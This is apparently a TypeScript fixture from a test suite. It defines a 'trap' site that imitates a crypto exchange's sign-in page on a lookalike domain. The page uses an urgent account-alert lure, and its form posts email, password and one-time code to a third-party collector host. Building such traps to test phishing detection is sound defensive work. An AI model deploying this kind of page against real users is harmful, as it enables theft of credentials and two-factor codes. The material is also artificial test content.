import { byPath, page } from '../page.ts'
import type { SiteOf } from '../site.ts'

/** An exchange's login on a foreign domain, that posts to a third. */
export const exchangeLogin: SiteOf = () => ({
  name: 'exchange-login',
  kind: 'trap',
  twinOf: 'own-exchange-login',
  url: 'https://harbour-exchange-login.test/',
  hosts: ['harbour-exchange-login.test'],
  sees: 'a password form under the name of an exchange whose domain is another, sent to a third site',
  answer: byPath({
    '/': page(
      'Harbour Exchange – Sign in',
      `<img class="logo" alt="Harbour Exchange" src="https://harbour-exchange.test/logo.svg">
<h1>Sign in to Harbour Exchange</h1>
<p>Suspicious activity on your account. Confirm your identity immediately.</p>
<form action="https://collect-desk.test/in" method="post">
<label>E-mail <input type="email" name="email"></label>
<label>Password <input type="password" name="password"></label>
<label>Authenticator code <input name="otp" autocomplete="one-time-code"></label>
<button>Sign in</button></form>
<a href="#">Help</a> <a href="#">Terms</a> <a href="#">Privacy</a> <a href="#">About</a>`,
    ),
  }),
})
